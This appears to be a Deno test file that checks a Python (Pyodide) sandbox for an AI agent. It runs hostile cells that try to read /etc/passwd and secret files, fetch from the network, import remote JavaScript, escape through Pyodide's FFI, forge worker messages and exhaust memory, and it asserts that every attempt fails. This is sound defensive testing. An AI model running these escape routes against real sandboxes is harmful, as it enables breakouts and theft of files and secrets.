/**
 * Hostile Python cells: the sandbox's attacks rerun for Python. Pyodide runs
 * in the same permission-less worker as JavaScript cells, so every route out
 * (Python's own modules, the `js` module, Pyodide's FFI and the JavaScript
 * global behind it) must end at Deno's permission checks; a busy loop, a
 * memory bomb and forged messages must leave the agent with a result and a
 * working REPL.
 *
 * @module
 */

import { join } from "node:path";
import {
  assert,
  assertEquals,
  assertStringIncludes,
} from "../helpers/assert.ts";
import { pythonSandbox, TEST_SNAPSHOTS } from "../helpers/python.ts";
import { tempDir } from "../helpers/temp.ts";

/** Reaches the worker's JavaScript global from Python, as an attacker would. */
const GLOBAL =
  "import pyodide_js\ng = pyodide_js.loadPackage.constructor('return globalThis')()";

/** Posts a message to the sandbox's host thread from Python (`forge`), and the cell's id. */
const FORGE = [
  "import json, sys",
  "def forge(*parts):",
  "    g.postMessage(g.JSON.parse(json.dumps([p for p in parts if not hasattr(p, 'byteLength')])).concat([p for p in parts if hasattr(p, 'byteLength')]))",
  "def cell_id():",
  "    return int(sys._getframe(1).f_code.co_filename.strip('<>').split('-')[1])",
].join("\n");

/** A local server that counts the connections it gets. */
function countingServer() {
  let hits = 0;
  const server = Deno.serve(
    { port: 0, hostname: "127.0.0.1", onListen() {} },
    () => {
      hits++;
      return new Response("reached");
    },
  );
  return {
    port: server.addr.port,
    hits: () => hits,
    [Symbol.asyncDispose]: () => server.shutdown(),
  };
}

Deno.test("Python cells reach no file, network, process or environment, through any route", async (t) => {
  await using ws = await tempDir({ "secret.txt": "top secret\n" });
  await using server = countingServer();
  const escape = join(ws.path, "escaped.txt");
  Deno.env.set("NANOCODE_TEST_CANARY", "canary-value-7781");
  await using sb = pythonSandbox({ cwd: ws.path, cellTimeout: 60 });
  await sb.run(GLOBAL);

  const attempts: [string, string][] = [
    [
      "open() of a workspace file by its path",
      `open(${JSON.stringify(join(ws.path, "secret.txt"))}).read()`,
    ],
    [
      "open() of a workspace file relative to the cwd",
      "open('secret.txt').read()",
    ],
    ["open() of /etc/passwd", "open('/etc/passwd').read()"],
    [
      "pathlib",
      `import pathlib\npathlib.Path(${
        JSON.stringify(ws.path)
      }).joinpath('secret.txt').read_text()`,
    ],
    ["listing the workspace", "import os\nos.listdir('.')"],
    [
      "urllib to 127.0.0.1",
      `import urllib.request\nurllib.request.urlopen('http://127.0.0.1:${server.port}/').read()`,
    ],
    [
      "a socket to 127.0.0.1",
      `import socket\nsocket.create_connection(('127.0.0.1', ${server.port}), timeout=2)`,
    ],
    [
      "pyodide.http.pyfetch",
      `from pyodide.http import pyfetch\nawait pyfetch('http://127.0.0.1:${server.port}/')`,
    ],
    [
      "subprocess",
      "import subprocess\nsubprocess.run(['id'], capture_output=True)",
    ],
    ["os.system", "import os\nassert os.system('id') == 0, 'no shell'"],
    ["from js import Deno, fetch", "from js import Deno, fetch"],
    [
      "import js; js.Deno",
      "import js\njs.Deno.readTextFileSync('/etc/passwd')",
    ],
    [
      "pyodide.code.run_js",
      "from pyodide.code import run_js\nrun_js(\"Deno.readTextFileSync('/etc/passwd')\")",
    ],
    [
      "pyodide.ffi through the JS global: Deno.readTextFileSync",
      "g.Deno.readTextFileSync('/etc/passwd')",
    ],
    [
      "pyodide.ffi through the JS global: Deno.writeTextFileSync",
      `g.Deno.writeTextFileSync(${JSON.stringify(escape)}, 'x')`,
    ],
    [
      "pyodide.ffi through the JS global: fetch",
      `await g.fetch('http://127.0.0.1:${server.port}/')`,
    ],
    [
      "pyodide.ffi through the JS global: node:fs",
      "await g.eval(\"import('node:fs').then((fs) => fs.readFileSync('/etc/passwd', 'utf8'))\")",
    ],
    [
      "pyodide.ffi through the JS global: Deno.Command",
      "g.eval(\"new Deno.Command('id').outputSync()\")",
    ],
    [
      "pyodide.ffi through the JS global: Deno.env",
      "g.Deno.env.get('NANOCODE_TEST_CANARY')",
    ],
    [
      "pyodide.ffi through the JS global: node:process env",
      "await g.eval(\"import('node:process').then((p) => p.env.NANOCODE_TEST_CANARY)\")",
    ],
    [
      "pyodide.ffi through the JS global: a remote import",
      "await g.eval(\"import('https://example.com/x.js')\")",
    ],
    [
      "pyodide.ffi through the JS global: the sandbox's stdin",
      "g.Deno.stdin.readSync(g.Uint8Array.new(10))",
    ],
    [
      "pyodide.ffi through the JS global: a nested Worker",
      "g.eval(\"new Worker('data:text/javascript,1', { type: 'module' })\")",
    ],
    [
      "pyodide.ffi through the JS global: Deno's internals",
      "g.eval(\"Deno[Deno.internal].core.print('forged')\")",
    ],
    [
      "pyodide.ffi through the JS global: the Cache API",
      "await g.caches.open('x')",
    ],
    [
      "pyodide.ffi through the JS global: the worker's postMessage",
      'g.postMessage(g.JSON.parse(\'["D", "{}"]\'))',
    ],
    [
      "installing a package",
      "import pyodide_js\nawait pyodide_js.loadPackage('numpy')",
    ],
  ];
  for (const [what, code] of attempts) {
    await t.step(`refuses ${what}`, async () => {
      const result = await sb.run(code);
      assert(
        result.error,
        `${what} should fail, got ${JSON.stringify(result)}`,
      );
      assertEquals(result.lost, undefined);
      assert(
        !JSON.stringify(result).includes("top secret"),
        "no secret leaked",
      );
      assert(!JSON.stringify(result).includes("root:x:0"), "no passwd leaked");
      assert(
        !JSON.stringify(result).includes("canary-value-7781"),
        "no env leaked",
      );
    });
  }

  await t.step(
    "Python's environment holds none of the agent's variables",
    async () => {
      const result = await sb.run("import os\nsorted(os.environ)");
      assert(!result.value?.includes("NANOCODE_TEST_CANARY"), result.value);
      assert(
        !result.value?.includes("PATH=") && !result.value?.includes("OPENAI"),
      );
    },
  );

  await t.step(
    "a write to an absolute path stays in Python's memory, never on disk",
    async () => {
      const result = await sb.run(
        `open(${JSON.stringify(escape)}, 'w').write('x')`,
      );
      assert(result.error, JSON.stringify(result));
      await assertMissing(escape);
      const tmp = await sb.run(
        "open('/tmp/scratch.txt', 'w').write('ok')\nopen('/tmp/scratch.txt').read()",
      );
      assertEquals(tmp.value, "ok");
      await assertMissing("/tmp/scratch.txt");
    },
  );

  await t.step("no request reached the local server", () => {
    assertEquals(server.hits(), 0);
  });
  Deno.env.delete("NANOCODE_TEST_CANARY");
});

async function assertMissing(path: string): Promise<void> {
  try {
    await Deno.stat(path);
  } catch {
    return;
  }
  throw new Error(`${path} exists on disk`);
}

Deno.test("a cell's own objects cannot cost the Python REPL its state: an exception whose str() fails, a patched json or time", async () => {
  await using sb = pythonSandbox({ cellTimeout: 60 });
  await sb.run("kept = 'yes'");
  const bad = await sb.run(
    "class E(Exception):\n    def __str__(self):\n        raise ValueError('no text')\nraise E('x')",
  );
  assertEquals(bad.lost, undefined, JSON.stringify(bad));
  assertEquals([bad.error?.name, bad.error?.line], ["E", 4]);
  const patched = await sb.run(
    "import json, time\njson.dumps = json.loads = time.monotonic = None\nprint('printed')\n'value'",
  );
  assertEquals(patched.lost, undefined, JSON.stringify(patched));
  assertEquals([patched.output, patched.value], ["printed\n", "value"]);
  const after = await sb.run("print('still')\nkept");
  assertEquals([after.lost, after.output, after.value], [
    undefined,
    "still\n",
    "yes",
  ]);
});

Deno.test("asyncio callbacks and tasks a Python cell leaves behind cannot print or call functions after it ended", async () => {
  await using sb = pythonSandbox({ cellTimeout: 60 });
  const calls: string[] = [];
  const functions = {
    write_file: (args: unknown[]) => {
      calls.push(String(args[0]));
      return "ok";
    },
  };
  const options = {
    functions,
    signatures: { write_file: "write_file(path, content)" },
  };
  const planted = await sb.run(
    [
      "import asyncio",
      "loop = asyncio.get_event_loop()",
      "loop.call_soon(lambda: print('LEFTOVER soon'))",
      "loop.call_later(0.2, lambda: print('LEFTOVER later', write_file('later.txt', 'x')))",
      "async def bg():",
      "    await asyncio.sleep(0.2)",
      "    print('LEFTOVER task', write_file('task.txt', 'x'))",
      "t = asyncio.ensure_future(bg())",
      "'planted'",
    ].join("\n"),
    options,
  );
  assertEquals(planted.value, "planted");
  const next = await sb.run(
    "import time\ntime.sleep(0.5)\nawait asyncio.sleep(0.5)\n'next'",
    options,
  );
  assertEquals([next.output, next.value], ["", "next"]);
  assertEquals(calls, []);
});

Deno.test("a busy Python loop is stopped at the timeout and the next cell runs in a fresh REPL", async () => {
  await using sb = pythonSandbox({ cellTimeout: 2 });
  await sb.run("before = 'set'");
  const pid = sb.pid!;
  const result = await sb.run("print('started')\nwhile True:\n    pass");
  assertEquals(result.lost, "timeout");
  assertStringIncludes(result.detail!, "cell timeout");
  assertStringIncludes(result.output, "started");
  const next = await sb.run("'before' in globals()");
  assertEquals(next.value, "False");
  assert(sb.pid !== pid, "a new sandbox process runs the next cell");
  assertEquals((await sb.run("sum(range(10))")).value, "45");
});

Deno.test("interrupting a busy Python cell ends it and the REPL comes back", async () => {
  await using sb = pythonSandbox({ cellTimeout: 60 });
  await sb.start();
  const controller = new AbortController();
  const running = sb.run("while True:\n    pass", {
    signal: controller.signal,
  });
  setTimeout(() => controller.abort(), 300);
  const result = await running;
  assertEquals(result.lost, "interrupt");
  assertEquals((await sb.run("'fresh'")).value, "fresh");
});

Deno.test("a Python memory bomb gets MemoryError and keeps the REPL's state", async () => {
  await using sb = pythonSandbox({
    cellTimeout: 60,
    python: { heapMb: 160 },
  });
  await sb.run("kept = 'yes'");
  const result = await sb.run(
    "hog = []\nwhile True:\n    hog.append(bytearray(8 * 1024 * 1024))",
  );
  assertEquals(result.error?.name, "MemoryError");
  assertStringIncludes(result.error!.message, "heap limit");
  assertEquals(result.lost, undefined);
  assertEquals((await sb.run("del hog\nkept")).value, "yes");
  const big = await sb.run("x = 'a' * (1024 ** 3)");
  assertEquals(big.error?.name, "MemoryError");
});

Deno.test("a memory bomb through the JavaScript side ends in a fresh REPL, not a dead agent", async () => {
  await using sb = pythonSandbox({ cellTimeout: 60, heapMb: 128 });
  await sb.run(GLOBAL);
  const result = await sb.run(
    "g.eval('globalThis.keep = []; for (;;) keep.push(new Array(1e6).fill(1))')",
  );
  assertEquals(result.lost, "crash");
  assertEquals((await sb.run("6 * 7")).value, "42");
});

Deno.test("messages forged from Python cannot end cells early, call hidden functions or plant a snapshot", async () => {
  await using cache = await tempDir();
  for await (const entry of safeReadDir(TEST_SNAPSHOTS)) {
    await Deno.copyFile(join(TEST_SNAPSHOTS, entry), join(cache.path, entry));
  }
  await using sb = pythonSandbox({
    cellTimeout: 30,
    maxFrameBytes: 1 << 20,
    python: { snapshotDir: cache.path },
  });
  await sb.run(`${GLOBAL}\n${FORGE}\nkept = 1`);
  const before = await snapshotFiles(cache.path);
  let hidden = 0;
  const functions = {
    hidden: () => {
      hidden++;
      return "ran";
    },
  };
  const survives = (
    result: { error?: unknown; value?: string; lost?: string },
  ) =>
    assert(
      result.error || result.value === "posted" || result.lost === "protocol",
      JSON.stringify(result),
    );
  // A forged snapshot after the sandbox was ready is not stored.
  survives(
    await sb.run("forge('S', g.Uint8Array.new(2 * 1024 * 1024))\n'posted'"),
  );
  // A forged call of a function this cell was not given is refused.
  survives(
    await sb.run(
      "forge('C', 999, json.dumps({'cid': 999, 'cell': cell_id(), 'name': 'hidden', 'args': []}))\n'posted'",
    ),
  );
  // A forged "done" (wrong shape, or for this cell) cannot pass as the cell's end.
  survives(
    await sb.run(
      "forge('D', json.dumps({'id': 'x'}))\nimport time\ntime.sleep(0.2)\n'posted'",
    ),
  );
  const early = await sb.run(
    "forge('D', json.dumps({'id': cell_id(), 'value': 'forged', 'omitted': 0, 'tail': ''}))\nimport time\ntime.sleep(0.2)\n'posted'",
  );
  assert(
    early.value !== "forged" || early.lost === undefined,
    JSON.stringify(early),
  );
  // Raw bytes on the sandbox's stdout cannot pass as a frame.
  const raw = await sb.run("g.Deno.stdout.writeSync(g.Uint8Array.new(64))");
  assert(raw.error || raw.lost === "protocol", JSON.stringify(raw));
  // Whatever happened, the agent has a working Python REPL and nothing leaked.
  assertEquals((await sb.run("6 * 7", { functions })).value, "42");
  assertEquals(hidden, 0, "the hidden function never ran");
  assertEquals(
    await snapshotFiles(cache.path),
    before,
    "no snapshot was planted",
  );
});

async function* safeReadDir(dir: string): AsyncGenerator<string> {
  try {
    for await (const entry of Deno.readDir(dir)) {
      if (entry.isFile && entry.name.endsWith(".snapshot")) yield entry.name;
    }
  } catch { /* no shared snapshot yet */ }
}

async function snapshotFiles(dir: string): Promise<string[]> {
  const out: string[] = [];
  for await (const entry of Deno.readDir(dir)) {
    const info = await Deno.stat(join(dir, entry.name));
    out.push(`${entry.name}:${info.size}:${info.mtime?.getTime()}`);
  }
  return out.sort();
}
